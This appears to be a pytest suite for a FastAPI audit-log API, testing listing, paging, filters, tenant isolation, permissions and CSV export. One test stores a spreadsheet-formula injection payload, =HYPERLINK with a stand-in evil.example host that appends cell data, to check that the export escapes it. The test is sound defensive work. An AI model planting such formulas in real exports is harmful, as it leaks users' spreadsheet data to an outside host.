"""Who reads which part of the trail, and how."""

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import httpx
import pytest
from fastapi import FastAPI

from app.audit.context import AuditContext, Result, Subject
from app.audit.events import AuditEvent
from app.audit.reading import COLUMNS, csv_of
from app.audit.recording import attach, record
from app.core.ids import uuid7
from app.tenancy.mode import Mode
from tests.actors import Business, Platform

AUDIT = "/api/v1/audit"
EXPORT = "/api/v1/audit/export"
THEN = datetime(2020, 1, 1, tzinfo=UTC)


async def note(app: FastAPI, business: Business, event: AuditEvent, **details: Any) -> None:
    """An entry in the business's chain, of long ago; `context` says more of whom and what it served."""
    context = {"at": THEN, "tenant_id": UUID(business.id)} | details.pop("context", {})
    async with app.state.database.transaction() as session:
        attach(session, AuditContext(**context))
        record(session, event, **details)


async def listed(client: httpx.AsyncClient, **query: Any) -> list[dict[str, Any]]:
    """The entries of long ago: what the test has noted, not what the log-ins before it have left."""
    answer = await client.get(AUDIT, params={"until": "2021-01-01T00:00:00Z"} | query)
    assert answer.status_code == 200, answer.text
    items: list[dict[str, Any]] = answer.json()["items"]
    return items


def events_of(items: list[dict[str, Any]]) -> list[str]:
    return [item["event"] for item in items]


class TestListAuditEntries:
    async def test_shows_what_was_kept(self, app: FastAPI, business: Business) -> None:
        user, subject = uuid7(), uuid7()
        await note(
            app,
            business,
            AuditEvent.USER_ROLE_CHANGED,
            about=Subject("user", subject),
            diff={"role": {"from": "TENANT_STAFF", "to": "TENANT_MANAGER"}, "email": "ada@lovelace.example"},
            context={"actor_id": user, "user_id": user, "mode": Mode.LIVE, "status": 200, "ip_address": "203.0.113.7"},
        )
        (entry,) = await listed(business.owner)
        assert len(bytes.fromhex(entry.pop("hash"))) == 32
        assert entry.pop("seq") > 0
        assert entry == {
            "at": "2020-01-01T00:00:00Z",
            "event": "user.role_changed",
            "result": "success",
            "reason": None,
            "actor_id": str(user),
            "user_id": str(user),
            "object_type": "user",
            "object_id": str(subject),
            "diff": {"role": {"from": "TENANT_STAFF", "to": "TENANT_MANAGER"}, "email": "changed"},
            "session_id": None,
            "token_id": None,
            "grant_id": None,
            "tenant_id": business.id,
            "mode": "live",
            "request_id": None,
            "method": None,
            "route": None,
            "status": 200,
            "ip_address": "203.0.113.7",
            "user_agent": None,
        }

    async def test_pages_from_the_newest(self, app: FastAPI, business: Business) -> None:
        for number in range(5):
            await note(app, business, AuditEvent.SESSION_STARTED, reason=f"number {number}")
        query: dict[str, Any] = {"until": "2021-01-01T00:00:00Z", "limit": 2}
        pages = [(await business.owner.get(AUDIT, params=query)).json()]
        while cursor := pages[-1]["next_cursor"]:
            pages.append((await business.owner.get(AUDIT, params=query | {"cursor": cursor})).json())
        assert [[item["reason"] for item in page["items"]] for page in pages] == [
            ["number 4", "number 3"],
            ["number 2", "number 1"],
            ["number 0"],
        ]

    @pytest.mark.parametrize("cursor", ["x", "bm9uc2Vuc2U", "WyJhIl0", "WyItMSJd", "WyI5OTk5OTk5OTk5OTk5OTk5OTk5OSJd"])
    async def test_a_made_up_cursor_is_refused(self, business: Business, cursor: str) -> None:
        answer = await business.owner.get(AUDIT, params={"cursor": cursor})
        assert (answer.status_code, answer.json()["code"]) == (400, "cursor-invalid")

    @pytest.mark.parametrize(
        ("query", "found"),
        [
            ({"event": "session.refused"}, ["session.refused"]),
            ({"event": "session.*"}, ["session.ended", "session.refused"]),
            ({"event": "masquerade.*"}, []),
            ({"result": "denied"}, ["session.refused"]),
            ({"actor_id": str(UUID(int=1))}, ["token.created"]),
            ({"user_id": str(UUID(int=2))}, ["token.created"]),
            ({"user_id": str(UUID(int=1))}, []),
            ({"since": "2020-01-01T00:00:01Z"}, ["token.created", "session.ended"]),
            ({"until": "2020-01-01T00:00:01Z"}, ["session.refused"]),
            ({"since": "2020-01-01T00:00:01Z", "until": "2020-01-01T00:00:02Z"}, ["session.ended"]),
            ({"object_type": "token"}, ["token.created"]),
            ({"object_type": "token", "object_id": "7"}, ["token.created"]),
            ({"object_type": "user", "object_id": "7"}, []),
        ],
    )
    async def test_filters(self, app: FastAPI, business: Business, query: dict[str, Any], found: list[str]) -> None:
        await note(app, business, AuditEvent.SESSION_REFUSED, result=Result.DENIED)
        await note(app, business, AuditEvent.SESSION_ENDED, context={"at": THEN + timedelta(seconds=1)})
        who = {"at": THEN + timedelta(seconds=2), "actor_id": UUID(int=1), "user_id": UUID(int=2)}
        await note(app, business, AuditEvent.TOKEN_CREATED, about=Subject("token", "7"), context=who)
        assert events_of(await listed(business.owner, **query)) == found

    @pytest.mark.parametrize(
        ("query", "pointer"),
        [
            ({"event": "nonsense"}, "event"),
            ({"event": "session"}, "event"),
            ({"event": "*"}, "event"),
            ({"event": "ses*"}, "event"),
            ({"result": "fine"}, "result"),
            ({"actor_id": "ada"}, "actor_id"),
            ({"since": "yesterday"}, "since"),
            ({"object_id": "\0"}, "object_id"),
            ({"limit": 101}, "limit"),
        ],
    )
    async def test_bad_input_is_named(self, bystander: Business, query: dict[str, Any], pointer: str) -> None:
        answer = await bystander.owner.get(AUDIT, params=query)
        assert answer.status_code == 422
        assert [error["pointer"] for error in answer.json()["errors"]] == [pointer]

    async def test_shows_nobody_elses(self, app: FastAPI, business: Business, other_business: Business) -> None:
        await note(app, business, AuditEvent.TOKEN_CREATED)
        assert await listed(other_business.owner) == []
        answer = await other_business.owner.get(AUDIT, params={"tenant_id": business.id})
        assert (answer.status_code, answer.json()["code"]) == (404, "tenant-not-found")
        assert events_of(await listed(business.owner, tenant_id=business.id)) == ["token.created"]

    async def test_a_test_token_sees_the_sandboxs_alone(self, app: FastAPI, business: Business) -> None:
        await note(app, business, AuditEvent.WEBHOOK_ENDPOINT_CREATED, context={"mode": Mode.LIVE})
        await note(app, business, AuditEvent.TENANT_CHANGED)
        await note(app, business, AuditEvent.WEBHOOK_ENDPOINT_DELETED, context={"mode": Mode.SANDBOX})
        tester = await business.client("audit:read", mode="test")
        assert events_of(await listed(tester)) == ["webhook_endpoint.deleted"]
        assert len(await listed(await business.client("audit:read"))) == 3

    async def test_the_platform_sees_its_own_or_one_businesss(
        self, app: FastAPI, business: Business, platform: Platform
    ) -> None:
        await note(app, business, AuditEvent.TOKEN_CREATED)
        reason = str(uuid7())
        await note(app, business, AuditEvent.TIER_CHANGED, tenant_id=None, reason=reason)
        own = await listed(platform.superuser)
        assert reason in {item["reason"] for item in own}
        assert {item["tenant_id"] for item in own} == {None}
        assert events_of(await listed(platform.superuser, tenant_id=business.id)) == ["token.created"]

    async def test_a_business_sees_what_the_platform_did_to_it(self, business: Business, platform: Platform) -> None:
        change = {"name": "Another name"}
        await platform.superuser.patch(f"/api/v1/platform/tenants/{business.id}", json=change)
        answer = await business.owner.get(AUDIT, params={"event": "tenant.changed"})
        (entry,) = answer.json()["items"]
        me = (await platform.superuser.get("/api/v1/me")).json()
        assert entry["actor_id"] == me["user"]["id"]
        assert entry["diff"] == {"name": {"from": f"The {business.slug}", "to": "Another name"}}

    async def test_needs_the_permission(self, business: Business) -> None:
        reader = await business.client("services:read")
        for path in (AUDIT, EXPORT):
            assert (await reader.get(path)).json()["code"] == "permission-denied"
            assert (await business.anonymous.get(path)).status_code == 401


class TestExportAuditEntries:
    async def test_is_csv_from_the_oldest(
        self, app: FastAPI, business: Business, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("app.audit.reading._BATCH", 2)
        for number in range(5):
            await note(app, business, AuditEvent.SESSION_STARTED, reason=f"number {number}", diff={"place": "Vienna"})
        answer = await business.owner.get(EXPORT, params={"until": "2021-01-01T00:00:00Z"})
        assert answer.headers["content-type"].startswith("text/csv")
        assert answer.headers["content-disposition"] == 'attachment; filename="audit.csv"'
        rows = list(csv.DictReader(io.StringIO(answer.text)))
        assert [row["reason"] for row in rows] == [f"number {number}" for number in range(5)]
        assert tuple(rows[0]) == COLUMNS
        assert (rows[0]["at"], rows[0]["diff"], rows[0]["actor_id"]) == (
            "2020-01-01T00:00:00.000000Z",
            '{"place":"changed"}',
            "",
        )

    async def test_of_nothing_is_its_heading(self, business: Business) -> None:
        answer = await business.owner.get(EXPORT, params={"until": "2021-01-01T00:00:00Z"})
        assert list(csv.reader(io.StringIO(answer.text))) == [list(COLUMNS)]

    async def test_is_an_entry_itself(self, business: Business) -> None:
        await business.owner.get(EXPORT, params={"event": "session.*", "since": "2020-01-01T00:00:00Z"})
        (entry,) = (await business.owner.get(AUDIT, params={"event": "audit.exported"})).json()["items"]
        assert entry["diff"] == {
            "event": {"from": None, "to": "session.*"},
            "since": {"from": None, "to": "2020-01-01T00:00:00.000000Z"},
        }

    async def test_no_cell_is_a_formula(self, app: FastAPI, business: Business) -> None:
        await note(app, business, AuditEvent.SESSION_REFUSED, reason='=HYPERLINK("http://evil.example?"&A1,"click")')
        answer = await business.owner.get(EXPORT, params={"until": "2021-01-01T00:00:00Z"})
        (row,) = csv.DictReader(io.StringIO(answer.text))
        assert row["reason"] == '\'=HYPERLINK("http://evil.example?"&A1,"click")'

    async def test_another_businesss_is_not_found(self, business: Business, other_business: Business) -> None:
        answer = await business.owner.get(EXPORT, params={"tenant_id": other_business.id})
        assert (answer.status_code, answer.json()["code"]) == (404, "tenant-not-found")


class TestCsvOf:
    @pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n"])
    def test_what_looks_like_a_formula_gets_an_apostrophe(self, beginning: str) -> None:
        written = csv_of([[f"{beginning}1+1", f"1{beginning}1"]]).decode()
        ((first, second),) = csv.reader(io.StringIO(written, newline=""))
        assert (first, second) == (f"'{beginning}1+1", f"1{beginning}1")

    def test_quotes_and_commas_stay_in_their_cell(self) -> None:
        assert csv_of([['say "so", then', "x"]]) == b'"say ""so"", then",x\r\n'
